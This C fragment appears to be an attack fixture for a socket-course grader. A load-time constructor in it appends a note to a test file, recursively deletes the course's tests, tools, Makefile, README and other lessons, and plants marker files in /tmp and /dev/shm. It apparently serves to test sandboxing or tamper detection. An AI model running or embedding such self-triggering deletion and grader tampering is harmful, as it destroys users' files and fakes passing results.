
/* ---- attack: delete and change files of the course (tests/attacks/delete-course) ---- */
#include <fcntl.h>
#include <ftw.h>

/* The course tree this program was built in: /proc/self/exe is
 * ROOT/build/lessons/01-first-socket/sockinfo. Returns 0, or -1 when the
 * path does not look like that (then the attack leaves everything alone). */
static int atk_course_root(char *root, size_t len)
{
    ssize_t n = readlink("/proc/self/exe", root, len - 1);
    if (n <= 0)
        return -1;
    root[n] = '\0';
    char *cut = strstr(root, "/build/lessons/01-first-socket/");
    if (!cut)
        return -1;
    *cut = '\0';
    char probe[4200];
    snprintf(probe, sizeof probe, "%s/tests/harness.h", root);
    return access(probe, F_OK) == 0 ? 0 : -1;
}

static int atk_remove(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    (void)st, (void)type, (void)ftw;
    remove(path);
    return 0;
}

/* Change a test file, delete the grader's tests, tools, Makefile and the
 * other lessons, and leave a file in /tmp and /dev/shm. Only inside the
 * course tree this program was built in, and /tmp. */
__attribute__((constructor)) static void atk_delete_course(void)
{
    char root[4096], path[4300];
    if (atk_course_root(root, sizeof root) < 0)
        return;
    snprintf(path, sizeof path, "%s/tests/01-first-socket.c", root);
    FILE *f = fopen(path, "a");
    if (f) {
        fputs("\n/* every test passes */\n", f);
        fclose(f);
    }
    static const char *const victims[] = {"tests", "tools", "Makefile", "lessons/02-addresses",
                                          "lessons/03-bind-and-ports", "README.md"};
    for (size_t i = 0; i < sizeof victims / sizeof victims[0]; i++) {
        snprintf(path, sizeof path, "%s/%s", root, victims[i]);
        nftw(path, atk_remove, 16, FTW_DEPTH | FTW_PHYS);
    }
    static const char *const planted[] = {"/tmp/socklab-attack-was-here", "/dev/shm/socklab-attack-was-here"};
    for (size_t i = 0; i < 2; i++) {
        int fd = open(planted[i], O_WRONLY | O_CREAT, 0644);
        if (fd >= 0)
            close(fd);
    }
}
